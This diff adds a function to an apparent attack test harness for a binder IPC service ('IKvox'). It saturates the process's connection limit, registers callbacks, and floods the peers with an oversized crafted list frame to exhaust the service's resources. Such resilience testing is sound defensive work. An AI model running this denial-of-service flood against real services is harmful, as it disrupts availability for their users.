@@ -73,4 +73,21 @@ void HangingCallbacks(Attacker& attacker) {
   }
 }
 
+/// While a callback runs, its connection is read however many requests wait: as large ones as need
+/// no room of their own. Nothing that comes back is read.
+void FloodBehindCallbacks(Attacker& attacker) {
+  std::deque<RawPeer> peers;
+  for (uint64_t id = 1; id <= binder::kMaxConnectionsOfProcess; ++id) {
+    RawPeer& peer = peers.emplace_back(attacker.Peer());
+    peer.SendFrame(Register(peer, "30747261", id, IKvox::IReceiveAudioCallback::descriptor));
+    for (int frames = 0; frames < 2; ++frames) peer.ReceiveFrame();  // the reply, the first call
+  }
+  Frame frame = LargestList(peers.front(), IKvox::TRANSACTION_Debug, "00000000 00000000");
+  constexpr int32_t kElements = 240 * 1024 / 8;
+  const size_t head = peers.front().Request(IKvox::TRANSACTION_Debug).parcel.size();
+  std::memcpy(frame.parcel.data() + head, &kElements, sizeof kElements);
+  frame.parcel.resize(head + sizeof kElements + kElements * 8);
+  Flood(attacker, peers, Wire(frame), false);
+}
+
 }  // namespace kvox
